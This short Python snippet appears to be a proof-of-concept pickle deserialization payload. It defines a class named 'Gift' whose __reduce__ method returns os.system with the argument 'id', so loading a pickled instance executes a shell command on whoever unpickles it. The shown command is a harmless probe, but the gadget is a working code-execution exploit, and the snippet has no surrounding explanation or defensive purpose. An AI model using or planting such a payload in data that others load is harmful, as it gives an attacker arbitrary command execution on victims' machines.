import os

class Gift:
    def __reduce__(self):
        return (os.system, ('id',))
